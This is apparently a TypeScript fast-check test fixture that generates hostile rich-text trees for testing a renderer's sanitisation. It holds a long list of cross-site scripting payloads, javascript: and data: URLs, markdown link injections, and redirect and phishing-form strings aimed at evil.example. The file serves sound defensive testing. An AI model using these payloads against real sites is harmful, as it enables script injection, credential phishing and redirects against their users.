import fc from 'fast-check';

/** What has broken out of texts, attributes and addresses elsewhere. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example>',
  '<img src=x onerror=alert(1)>',
  '<iframe src=javascript:alert(1) ',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)>',
  '<math><mtext></p><img src=x onerror=alert(1)>',
  '<body onload=alert(1)',
  '<div onclick=alert(1)\n',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=/x style=position:fixed>',
  '<form action=//evil.example><input name=password>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<object data=data:text/html,x>',
  '<template><script>alert(1)</script></template>',
  '<plaintext>',
  '<!-- --!><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '</p></li></ul></blockquote></pre></code></textarea></title></style></script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '` onerror=alert(1) `',
  '\\<script>alert(1)\\</script>',
  'a"> <img src=x onerror=alert(1)>',
  '[a](javascript:alert(1))',
  'a](javascript:alert(1)) [b',
  '![a](x "b" onerror=alert(1) )',
  '**[a](javascript:alert(1))**',
  '[a]: javascript:alert(1) "x"',
  'https://a.example/"><img src=x onerror=alert(1)>',
  'www.a.example/<img src=x onerror=alert(1)>',
  'a@b.example<img src=x onerror=alert(1)>',
  'a|b <img src=x onerror=alert(1)>',
  '\\"><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;',
  '&#x6A;avascript:alert(1)',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://example.org/%0Aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://portal.example/1',
  'view-source:https://portal.example',
  'ftp://evil.example/x',
  '//evil.example/x',
  '///evil.example/x',
  '/\\evil.example/x',
  '\\\\evil.example/x',
  '/\t/evil.example/x',
  'https:evil.example',
  'https:\\\\evil.example',
  'https://portal.example/"><script>alert(1)</script>',
  "https://portal.example/' onclick='alert(1)",
  'https://portal.example/<script>alert(1)</script>',
  '/x)<script>alert(1)</script>',
  '/x "onmouseover=alert(1)',
  'mailto:a@b.example?subject=<script>',
  'tel:+49"><script>',
  '#x',
  '[x](javascript:alert(1))',
  '![x](javascript:alert(1))',
  '[x]: javascript:alert(1)',
  '[x]',
  '<javascript:alert(1)>',
  '```\n<script>alert(1)</script>',
  '~~~',
  '    <script>alert(1)</script>',
  '<pre>\n<script>alert(1)</script>\n</pre>',
  '<br>\n<script>alert(1)</script>',
  '\n\n<script>alert(1)</script>\n\n',
  '| a | b |\n| - | - |\n| <script> | x |',
  '# title',
  '---\ntitle: x\n---',
  '\u0000<script>',
  '\ud800',
  '\u202e\u2066',
  '\ufeff',
  '\r\n<script\r',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '__proto__',
  'constructor',
  '',
];

const KINDS = [
  'paragraph', 'quote', 'heading', 'list', 'list-item', 'image', 'code', 'text', 'link', 'html', 'raw', 'verbatim',
  'element', 'root', 'comment', 'script', '<script>', 'table', '__proto__', 'constructor', 'toString', '',
]; // prettier-ignore

const payload = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...PAYLOADS) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...PAYLOADS), fc.constantFrom(...PAYLOADS))
      .map((two) => two.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) }
);

/** Anything that JSON can hold where something else is meant. */
const anything = fc.oneof(
  payload,
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1.5, 7, 1e300, [], {}, [[]])
);

const mostly = <Value>(value: fc.Arbitrary<Value>): fc.Arbitrary<unknown> =>
  fc.oneof({ weight: 6, arbitrary: value }, { weight: 1, arbitrary: anything });

const mark = fc.constantFrom<unknown>(undefined, undefined, undefined, true, 'true');

const { node } = fc.letrec<{ node: unknown; children: unknown }>((tie) => ({
  children: mostly(fc.array(tie('node'), { maxLength: 4 })),
  node: fc.oneof(
    { depthSize: 'medium', withCrossShrink: true },
    { weight: 5, arbitrary: fc.record({ type: fc.constant('text'), text: mostly(payload) }) },
    {
      weight: 6,
      arbitrary: fc.record(
        {
          type: mostly(fc.constantFrom(...KINDS)),
          text: mostly(payload),
          bold: mark,
          italic: mark,
          underline: mark,
          strikethrough: mark,
          code: mark,
          url: mostly(payload),
          rel: mostly(payload),
          target: mostly(fc.constantFrom('_blank', '_top')),
          level: mostly(fc.constantFrom(1, 2, 3, 4, 5, 6)),
          format: mostly(fc.constantFrom('ordered', 'unordered')),
          language: mostly(payload),
          indentLevel: anything,
          image: mostly(
            fc.record({
              url: mostly(payload),
              alternativeText: mostly(payload),
              caption: mostly(payload),
              width: anything,
              height: anything,
            })
          ),
          value: payload,
          tagName: fc.constantFrom('script', 'img'),
          properties: fc.constant({ onclick: 'alert(1)' }),
          data: fc.constant({ hName: 'script', hProperties: { src: '//evil.example' } }),
          children: tie('children'),
        },
        { requiredKeys: ['type', 'children'] }
      ),
    },
    { weight: 1, arbitrary: anything }
  ),
}));

/** Rich text as somebody would have it who can write into the database. */
export const hostileBlocks = fc.array(node, { maxLength: 5 });

const leaf = (text: string) => ({ type: 'text', text });

/** Every place of rich text that a payload can stand in. */
export const PLACES: [string, (payload: string) => unknown][] = [
  ['text', (payload) => ({ type: 'paragraph', children: [leaf(payload)] })],
  ['bold text', (payload) => ({ type: 'paragraph', children: [{ ...leaf(payload), bold: true }] })],
  ['underlined text', (payload) => ({ type: 'paragraph', children: [{ ...leaf(payload), underline: true }] })],
  ['text in signs of code', (payload) => ({ type: 'paragraph', children: [{ ...leaf(payload), code: true }] })],
  ['heading', (payload) => ({ type: 'heading', level: 2, children: [leaf(payload)] })],
  ['quote', (payload) => ({ type: 'quote', children: [leaf(payload)] })],
  ['code', (payload) => ({ type: 'code', language: payload, children: [{ ...leaf(payload), bold: true }] })],
  ['entry', (payload) => ({ type: 'list', format: payload, children: [{ type: 'list-item', children: [leaf(payload)] }] })],
  ['link', (payload) => ({ type: 'paragraph', children: [{ type: 'link', url: payload, rel: payload, target: payload, children: [leaf(payload)] }] })],
  ['link text', (payload) => ({ type: 'paragraph', children: [{ type: 'link', url: '/x', children: [leaf(payload)] }] })],
  ['marked link text', (payload) => ({ type: 'paragraph', children: [{ type: 'link', url: '/x', children: [leaf('a'), { ...leaf(payload), bold: true }, { ...leaf(payload), code: true }] }] })],
  ['image', (payload) => ({ type: 'image', image: { url: payload, alternativeText: payload, caption: payload, width: payload, height: payload }, children: [leaf('')] })],
  ['image with an address that is safe', (payload) => ({ type: 'image', image: { url: '/a.jpg', alternativeText: payload, caption: payload }, children: [leaf('')] })],
  ['type', (payload) => ({ type: payload, children: [leaf(payload)] })],
]; // prettier-ignore
